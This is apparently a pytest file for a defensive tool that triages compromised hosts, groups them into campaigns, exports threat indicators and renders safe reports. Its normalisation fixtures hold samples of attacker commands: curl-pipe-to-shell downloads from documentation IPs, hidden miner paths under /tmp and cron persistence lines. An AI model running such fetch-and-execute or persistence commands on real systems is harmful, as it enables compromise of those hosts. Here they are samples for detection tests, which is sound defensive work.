"""The report as its readers have it: JSON of its schema, a page without scripts, the same each time, in both languages."""

from __future__ import annotations

import json
import re
import time
from html.parser import HTMLParser
from pathlib import Path

import jsonschema
import pytest

from extension.fleet import export
from extension.fleet.listing import LISTS
from extension.fleet.names import Names
from extension.fleet.normalise import REPLACEMENTS, families, is_distinct, normalised, normalised_expression
from extension.fleet.report import html, markdown, text
from extension.fleet.report.document import Document
from extension.fleet.report.words import _WORDS
from extension.intel.formats import read_feed
from extension.report.json import render as triage_json
from tests.fleet.looking import looked_at
from tests.support.made_triage import hostile

SCHEMA = json.loads((Path(html.__file__).parent / "fleet.schema.json").read_text())
SAMPLE = Path(__file__).parent / "sample"


@pytest.fixture(scope="module")
def of_hostile(tmp_path_factory: pytest.TempPathFactory, names: Names) -> Document:
    folder = tmp_path_factory.mktemp("hostile")
    for number in range(3):
        triage = hostile()
        document = json.loads(triage_json(triage))
        document["host"]["hostname"] += str(number)
        (folder / f"{number}.json").write_text(json.dumps(document, indent=2))
    return looked_at([str(folder)], names)[1]


def test_the_document_is_of_its_schema(report: Document, of_hostile: Document) -> None:
    for document in (report, of_hostile):
        jsonschema.validate(json.loads(json.dumps(document)), SCHEMA)


def test_triages_of_hostile_hosts_are_one_campaign(of_hostile: Document) -> None:
    assert of_hostile["summary"]["hosts"] == 3 and of_hostile["summary"]["compromised"] == 3
    assert of_hostile["coverage"]["failing"] == {"hidden_processes": 3}


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.ids: list[str] = []
        self.targets: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for name, value in attributes:
            assert not name.startswith("on") and name != "src", (tag, name)
            if name == "id":
                self.ids.append(value or "")
            elif name == "href":
                assert (value or "").startswith(("#", "data:,"))
                self.targets.append(value or "")


@pytest.mark.parametrize("language", ["en", "zh"])
def test_the_page_asks_for_nothing_and_leads_each_host_to_its_incident(
    report: Document, of_hostile: Document, language: str
) -> None:
    for document in (report, of_hostile):
        page = _Page()
        rendered = html.render(document, language)
        page.feed(rendered)
        assert not {"script", "img", "iframe", "object", "form"} & set(page.tags)
        assert {target[1:] for target in page.targets if target.startswith("#")} <= set(page.ids)
        assert len(page.ids) == len(set(page.ids))
        assert "\x1b" not in rendered and "\u202e" not in rendered
    assert report["sentence"][language] in html.render(report, language)


@pytest.mark.parametrize("language", ["en", "zh"])
def test_text_and_markdown(report: Document, of_hostile: Document, language: str) -> None:
    for document in (report, of_hostile):
        for render in (text.render, markdown.render):
            rendered = render(document, language)
            assert "\x1b" not in rendered and "\u202e" not in rendered
    assert "<script" not in re.sub(r"`+[^`]*`+", "", markdown.render(report, language))


def test_every_word_is_in_both_languages() -> None:
    assert all(english and chinese and re.search(r"[\u4e00-\u9fff/；]", chinese) for english, chinese in _WORDS.values())


def test_the_same_logs_give_the_same_report_in_any_order(names: Names, tmp_path: Path) -> None:
    first = looked_at([str(SAMPLE)], names)[1]
    other = looked_at([str(path) for path in sorted(SAMPLE.iterdir(), reverse=True)], names)[1]
    assert {**first, "sources": {}} == {**other, "sources": {}}
    assert len(first["campaigns"]) == 5


def test_lists(report: Document) -> None:
    for name, rows in LISTS.items():
        listed = list(rows(report, "en"))
        assert listed and all(set(row) == set(listed[0]) for row in listed), name
    assert len(list(LISTS["hosts"](report, "en"))) == 500


def test_what_is_exported_is_read_by_intel_import(report: Document) -> None:
    pools = {each["value"] for one in report["campaigns"] for each in one["indicators"] if each["kind"] == "pool"}
    for form, name in (("minehunt", "text"), ("stix", "stix"), ("misp", "misp")):
        rendered = export.render(report, (), form)
        assert pools <= {entry.text for entry in read_feed(rendered, name).entries}, form
        assert export.render(report, (), form) == rendered
    (only,) = {row.split(",")[0] for row in export.render(report, ("C2",), "csv").splitlines()[1:]}
    assert only == "C2"
    with pytest.raises(KeyError):
        export.render(report, ("C99",), "csv")


SAME = [
    ("curl -s http://192.0.2.1/a1b2c3d4e5/x.sh | sh -s 17", "curl -s http://198.51.100.77/99aabbccdd/x.sh | sh -s 4"),
    ("/tmp/.x7f/kworkerds -c 5", "/tmp/.abcdef/zq -c 12"),
    ("* * * * * /root/.cache/upd", "* * * * * /root/.config9/upd"),
    ("run --id 0f8fad5b-d9cb-469f-a165-70867728950e", "run --id 7c9e6679-7425-40de-944b-e07fc1f90ae7"),
    ("/usr/bin/xkqzvtrw --daemon", "/usr/bin/bbdfghjk --daemon"),
]


@pytest.mark.parametrize(("one", "other"), SAME)
def test_what_differs_from_host_to_host_is_left_out(one: str, other: str) -> None:
    assert normalised(one) == normalised(other)


def test_the_engine_normalises_as_python_does() -> None:
    import ibis

    texts = [text for pair in SAME for text in pair] + [
        "",
        "  a  b\t",
        "systemd-networkd-wait-online --any",
        "python3.11 -m http",
        "é 中文 7",
    ]
    table = ibis.memtable({"number": range(len(texts)), "text": texts})
    told = table.select("number", found=normalised_expression(table.text)).order_by("number").to_pyarrow()["found"].to_pylist()
    assert told == [normalised(text) for text in texts]


def test_different_commands_stay_different() -> None:
    for command in ("/usr/sbin/nginx -g daemon", "systemctl restart backup-agent", "/opt/reports/build.sh --all"):
        assert normalised(command) == command
    assert not is_distinct(normalised("curl -fsSL http://192.0.2.1/abc.sh | bash"))
    assert is_distinct("/opt/reports/build.sh")
    told = families(
        [
            "a run of alpha beta gamma delta epsilon",
            "a run of alpha beta gamma delta zeta",
            "quite another command of other words here",
        ]
    )
    assert len(set(told.values())) == 2


@pytest.mark.parametrize("piece", ["a", "1", "a1", "/.", "/tmp/", "bcdfgh", "0123456789abcdef-", "+", " "])
def test_normalising_takes_time_in_proportion(piece: str) -> None:
    for pattern, replacement in REPLACEMENTS:
        compiled, spent = re.compile(pattern), []
        for length in (20_000, 160_000):
            long = (piece * length)[:length]
            started = time.perf_counter()
            compiled.sub(replacement, long)
            spent.append(time.perf_counter() - started)
        assert spent[1] < 40 * spent[0] + 0.1, pattern
